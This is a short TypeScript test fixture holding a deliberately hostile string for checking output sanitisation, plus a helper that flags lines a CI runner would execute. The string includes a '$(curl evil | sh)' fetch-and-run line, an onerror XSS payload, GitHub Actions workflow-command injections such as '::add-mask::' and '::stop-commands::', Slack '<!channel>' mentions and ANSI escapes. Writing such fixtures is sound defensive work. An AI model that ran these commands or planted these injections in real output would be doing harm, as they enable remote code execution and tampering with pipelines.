// A hostile external string, as AWS, an alarm, a smoke or hook answer, Slack or GitHub could return it.

export const PAYLOAD = [
  'boom',
  '::warning::x',
  '::add-mask::secret',
  '::stop-commands::tok',
  '  ::error title=t::indented',
  'a ##[set-output name=x]y',
  'echoed %0A::notice::encoded',
  '# heading',
  '[link](http://x) ![img](http://x) |pipes|',
  '<img src=x onerror=alert(1)> <details><summary>s</summary>',
  '- item',
  '1. first',
  '`code` $(curl evil | sh) *em* _u_ ~~s~~ \\',
  '<!channel> <http://evil|text> <@U123> &amp;',
  '\u001b[31mred\u001b[0m\r\nend'
].join('\n')

/** A line the runner would execute: `::cmd` at its start (after spaces), or `##[` anywhere (the older form). */
export function executable(line: string): boolean {
  return line.trimStart().startsWith('::') || line.includes('##[')
}
